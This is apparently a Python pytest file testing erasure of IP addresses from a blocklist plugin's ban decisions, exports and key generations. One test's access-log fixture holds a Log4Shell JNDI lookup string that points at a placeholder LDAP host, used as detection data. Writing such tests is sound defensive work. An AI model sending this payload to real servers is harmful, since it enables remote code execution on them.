"""Whoever is erased is in no decision and no file; the decisions on all others go over to the new key."""

from ipaddress import ip_address
from pathlib import Path

import pytest

from plugins.blocklist.by_hand import ban, lift
from plugins.blocklist.decisions import Decisions
from plugins.blocklist.exporting import publish_exports
from plugins.steps.erasing import Erased, erase
from tests.plugins.blocklist.blocklists import (
    BERIT,
    DAY,
    MALLORY,
    NOON,
    OPEN,
    TRUDY,
    attack,
    attacked,
    ban_by_hand,
    detect_on,
    export,
    kept,
    targets,
)
from tests.stores import Site, hit, silent


@pytest.fixture
def site(tmp_path: Path) -> Site:
    """Two attackers of today, both decided on and published."""
    site = attacked(tmp_path)
    attack(site, NOON, address=TRUDY)
    detect_on(site)
    publish_exports(site.open())
    return site


def erase_from(site: Site, *addresses: str) -> Erased:
    return erase(site.open(), set(map(ip_address, addresses)), "operations", silent)


def test_the_decision_on_the_address_goes_and_the_others_stay_under_the_new_key(site: Site) -> None:
    (other,) = [one for one in kept(site) if one.target == TRUDY]
    assert erase_from(site, MALLORY) == Erased(1, [DAY])
    assert kept(site) == [other]
    assert site.open().keys.generations(DAY) == ["2"]
    assert [name for name in site.open().window.names() if "/decisions/" in name] == [f"{DAY}/decisions/kept.2.parquet"]
    assert MALLORY not in export(site) + export(site, "blocklist.csv")
    assert TRUDY in export(site)
    assert detect_on(site).new == 0
    assert targets(site) == {(TRUDY, "log4shell")}


def test_a_decision_on_a_day_without_lines_of_the_address_goes_too(site: Site) -> None:
    ban_by_hand(site)
    assert erase_from(site, BERIT) == Erased(0, [DAY])
    assert BERIT not in {one.target for one in kept(site)}
    assert BERIT not in export(site)
    assert len(kept(site)) == 2


def test_a_64_goes_with_each_address_in_it_and_a_wider_network_with_none(site: Site) -> None:
    ban_by_hand(site, "2001:db8:0:7::1")
    ban_by_hand(site, "2001:db8::/48")
    ban_by_hand(site, "198.51.100.0/24")
    erase_from(site, "2001:db8:0:7::99", "198.51.100.0")
    assert {one.target for one in kept(site)} == {MALLORY, TRUDY, "2001:db8::/48", "198.51.100.0/24"}


def test_a_reason_that_mentions_the_address_takes_the_decision_along(site: Site) -> None:
    ban(site.open(), [BERIT], "the same person as 198.51.100.77", "security")
    one = ban_by_hand(site, "198.51.100.6")
    lift(site.open(), [one.decision], "it was 198%2E51.100.77", "op")
    erase_from(site, "198.51.100.77")
    assert {one.target for one in kept(site)} == {MALLORY, TRUDY}


def test_a_decision_stays_where_only_a_request_of_it_mentioned_the_address(tmp_path: Path) -> None:
    site = Site(tmp_path, NOON, OPEN)
    site.write("access.log", hit(NOON, MALLORY, "/?x=${jndi:ldap://192.0.2.77/a}"))
    site.ingest()
    detect_on(site)
    assert erase_from(site, "192.0.2.77") == Erased(1, [DAY])
    assert targets(site) == {(MALLORY, "log4shell")}


def test_a_day_without_the_address_is_not_written_anew(site: Site) -> None:
    before = list(site.open().window.names())
    assert erase_from(site, BERIT) == Erased(0, [])
    assert list(site.open().window.names()) == before


def test_a_day_of_which_only_decisions_were_kept_can_be_erased_from(tmp_path: Path) -> None:
    site = Site(tmp_path, NOON, OPEN)
    ban_by_hand(site)
    assert erase_from(site, BERIT) == Erased(0, [DAY])
    assert list(site.open().window.names()) == []
    ban_by_hand(site, TRUDY)
    site.write("access.log", hit(NOON))
    site.ingest()
    assert {name.rsplit(".", 2)[1] for name in site.open().window.names()} == {"2"}


def test_who_holds_a_store_open_sees_at_once_what_was_lifted_erased_banned_or_has_ended(site: Site) -> None:
    """The object of a day has the same name after a lift and a ban, and its key is still there when it is past."""
    held = site.open()

    def seen() -> set[str]:
        return {one.target for one in Decisions(held).active(NOON)}

    assert seen() == {MALLORY, TRUDY}
    lift(site.open(), [one.decision for one in kept(site) if one.target == MALLORY], "our own scanner", "op")
    assert seen() == {TRUDY}
    erase_from(site, TRUDY)
    assert seen() == set()
    ban_by_hand(site)
    assert seen() == {BERIT}
    site.now = held.calendar.deadline(DAY)
    assert Decisions(held).all() == []
